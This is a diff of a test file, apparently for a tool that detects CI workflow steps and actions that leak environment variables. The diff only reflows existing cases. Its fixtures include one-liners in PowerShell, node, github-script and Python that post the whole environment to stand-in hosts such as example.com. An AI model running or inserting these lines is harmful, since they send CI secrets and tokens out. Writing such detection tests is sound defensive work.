@@ -187,14 +187,26 @@ describe('programs that send their environment', () => {
     ['an argument', run(`python3 -c 'import os, requests; ${send}'`), 'os.environ'],
     ['a here-document', run(`python3 - <<'EOF'\nimport os\n${send}\nEOF`), 'os.environ'],
     ['a file that it writes', run(`cat > x.py <<EOF\n${send}\nEOF\npython3 x.py`), 'os.environ'],
-    ['PowerShell', step('shell: pwsh\n    run: |\n      irm https://example.com -Method Post -Body (gci env: | Out-String)'), 'Get-ChildItem env:'],
+    [
+      'PowerShell',
+      step('shell: pwsh\n    run: |\n      irm https://example.com -Method Post -Body (gci env: | Out-String)'),
+      'Get-ChildItem env:',
+    ],
     ['node', run('node -e \'fetch("https://example.com/" + btoa(JSON.stringify(process.env)))\''), 'process.env'],
     [
       'an action that runs a script',
-      step('uses: actions/github-script@v8\n    with:\n      script: |\n        await fetch("https://x", {body: JSON.stringify(process.env)})'),
+      step(
+        'uses: actions/github-script@v8\n    with:\n      script: |\n        await fetch("https://x", {body: JSON.stringify(process.env)})',
+      ),
       'process.env',
     ],
-    ['a composite action', { 'action.yml': `name: a\ndescription: a\nruns:\n  using: composite\n  steps:\n    - shell: python\n      run: ${JSON.stringify(send)}\n` }, 'os.environ'],
+    [
+      'a composite action',
+      {
+        'action.yml': `name: a\ndescription: a\nruns:\n  using: composite\n  steps:\n    - shell: python\n      run: ${JSON.stringify(send)}\n`,
+      },
+      'os.environ',
+    ],
   ])('by %s', async (_name, files, form) => {
     expect(await forms(files)).toEqual([form]);
   });
